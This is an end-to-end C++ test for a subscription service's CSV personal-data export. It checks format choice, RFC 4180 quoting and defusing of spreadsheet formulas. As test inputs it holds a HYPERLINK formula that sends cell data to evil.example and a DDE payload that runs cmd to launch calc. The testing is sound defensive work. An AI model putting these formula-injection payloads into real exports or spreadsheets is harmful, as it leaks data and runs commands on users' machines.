// The access export as CSV end to end (Art. 20, CONTRACT §7): chosen with the request or on the
// confirmation page, RFC 4180 records in the documented layout, and no cell a spreadsheet would
// run as a formula — even when the name and the user agent were typed by an attacker.
#include <catch2/catch.hpp>

#include "service/domain/csv_reader.h"
#include "tests/support/privacy_helpers.h"

using namespace optin::test;
using nlohmann::json;

namespace {

// Parses a whole CSV document with the service's own RFC 4180 reader.
std::vector<std::vector<std::string>> ParseCsv(const std::string& text) {
  std::vector<std::vector<std::string>> rows;
  optin::CsvReader reader;
  auto sink = [&](const optin::CsvRecord& r) {
    REQUIRE_FALSE(r.malformed);
    rows.push_back(r.fields);
    return true;
  };
  reader.Feed(text.data(), text.size(), sink);
  reader.Finish(sink);
  return rows;
}

// The value of the first record of `section` with field `field` ("" when none; REQUIREs it exists).
std::string Cell(const std::vector<std::vector<std::string>>& rows, const std::string& section,
                 const std::string& field) {
  for (const auto& r : rows) {
    if (r.size() == 4 && r[0] == section && r[2] == field) return r[3];
  }
  FAIL("no record " << section << "/" << field);
  return "";
}

const std::string kHostileName = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click, me\")";
const std::string kHostileAgent = "@SUM(1+1)*cmd|' /C calc'!A0";

}  // namespace

TEST_CASE("access export as CSV: layout, RFC 4180 quoting, formulas neutralised",
          "[e2e][db][privacy][csv]") {
  SmtpServer smtp;
  OptinFixture f(SmtpEnv(smtp));
  httplib::Headers agent = {{"User-Agent", kHostileAgent}};
  json signup = {{"email", "eve@example.com"}, {"name", kHostileName}};
  auto s = f.client().Post("/subscribe", agent, signup.dump(), "application/json");
  REQUIRE(s);
  REQUIRE(s->status == 202);
  REQUIRE(f.PostJson("/confirm", {{"token", TokenIn(WaitForMail(smtp, 1), "/confirm?token=")}})
              ->status == 200);

  // A format other than json or csv is refused before anything is stored.
  auto bad = RequestPrivacy(f, "eve@example.com", "access", {{"format", "xlsx"}});
  CHECK(bad->status == 400);
  CHECK(json::parse(bad->body)["error"] == "invalid_request");
  CHECK(Count(f, "privacy_requests") == "0");

  REQUIRE(RequestPrivacy(f, "eve@example.com", "access", {{"format", "csv"}})->status == 202);
  std::string token = TokenIn(WaitForMail(smtp, 2), "/privacy/confirm?token=");
  // The confirmation page offers both formats, the requested one chosen.
  auto page = f.client().Get(("/privacy/confirm?token=" + token).c_str());
  REQUIRE(page->status == 200);
  CHECK(page->body.find("value=\"csv\" checked") != std::string::npos);
  CHECK(page->body.find("value=\"json\">") != std::string::npos);
  // A bad format at confirmation is refused and leaves the request open.
  CHECK(f.PostJson("/privacy/confirm", {{"token", token}, {"format", "pdf"}})->status == 400);
  CHECK(Count(f, "privacy_requests", "completed_at IS NULL") == "1");

  auto done = f.PostJson("/privacy/confirm", {{"token", token}});
  REQUIRE(done->status == 200);
  CHECK(done->get_header_value("Content-Type").rfind("text/csv; charset=utf-8", 0) == 0);
  CHECK(done->get_header_value("Content-Disposition") ==
        "attachment; filename=\"personal-data.csv\"");
  const std::string& body = done->body;
  // RFC 4180: every line ends in CRLF; no bare LF.
  REQUIRE(body.size() > 2);
  CHECK(body.substr(body.size() - 2) == "\r\n");
  for (size_t i = 0; i < body.size(); ++i) {
    if (body[i] == '\n') CHECK(body[i - 1] == '\r');
  }
  // Quotes doubled, the field quoted because it holds quotes and a comma, the formula defused.
  CHECK(body.find("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click, me\"\")\"") !=
        std::string::npos);

  auto rows = ParseCsv(body);
  REQUIRE(rows.size() > 10);
  CHECK(rows[0] == std::vector<std::string>{"section", "item", "field", "value"});
  for (const auto& r : rows) {
    REQUIRE(r.size() == 4);
    for (const auto& cell : r) {
      if (cell.empty()) continue;
      INFO(cell);
      CHECK(std::string("=+-@\t\r").find(cell[0]) == std::string::npos);
    }
  }
  CHECK(Cell(rows, "subscriber", "email") == "eve@example.com");
  CHECK(Cell(rows, "subscriber", "name") == "'" + kHostileName);
  CHECK(Cell(rows, "subscriber", "suppressed") == "false");
  CHECK(Cell(rows, "subscriptions", "status") == "confirmed");
  CHECK(Cell(rows, "subscriptions", "list") == "newsletter");
  CHECK(Cell(rows, "consent_events", "user_agent") == "'" + kHostileAgent);
  CHECK(Cell(rows, "privacy_requests", "type") == "access");
  // Items are numbered per section, in the JSON export's order.
  std::vector<std::string> kinds;
  for (const auto& r : rows) {
    if (r[0] == "consent_events" && r[2] == "kind") kinds.push_back(r[1] + ":" + r[3]);
  }
  CHECK(kinds == std::vector<std::string>{"1:signup_requested", "2:confirmation_mail_sent",
                                          "3:confirmed", "4:privacy_requested",
                                          "5:privacy_completed"});
}

TEST_CASE("access export: the format chosen at confirmation wins over the request's",
          "[e2e][db][privacy][csv]") {
  SmtpServer smtp;
  OptinFixture f(SmtpEnv(smtp));
  SignUpAndConfirm(f, smtp, "finn@example.com", 1);

  REQUIRE(RequestPrivacy(f, "finn@example.com", "access")->status == 202);
  std::string token = TokenIn(WaitForMail(smtp, 2), "/privacy/confirm?token=");
  auto page = f.client().Get(("/privacy/confirm?token=" + token).c_str());
  CHECK(page->body.find("value=\"json\" checked") != std::string::npos);
  // The page's form posts urlencoded, as a browser does.
  httplib::Headers browser = {{"Accept", "text/html"}};
  auto csv = f.client().Post("/privacy/confirm", browser, "token=" + token + "&format=csv",
                             "application/x-www-form-urlencoded");
  REQUIRE(csv->status == 200);
  CHECK(csv->get_header_value("Content-Type").rfind("text/csv", 0) == 0);
  auto rows = ParseCsv(csv->body);
  CHECK(Cell(rows, "subscriber", "name") == "Someone");

  // Without a choice the request's format (json by default) is used.
  AgePrivacyRequests(f);
  REQUIRE(RequestPrivacy(f, "finn@example.com", "access")->status == 202);
  std::string second = TokenIn(WaitForMail(smtp, 3), "/privacy/confirm?token=");
  auto js = f.PostJson("/privacy/confirm", {{"token", second}});
  REQUIRE(js->status == 200);
  CHECK(js->get_header_value("Content-Type").rfind("application/json", 0) == 0);
  CHECK(json::parse(js->body)["email"] == "finn@example.com");
}
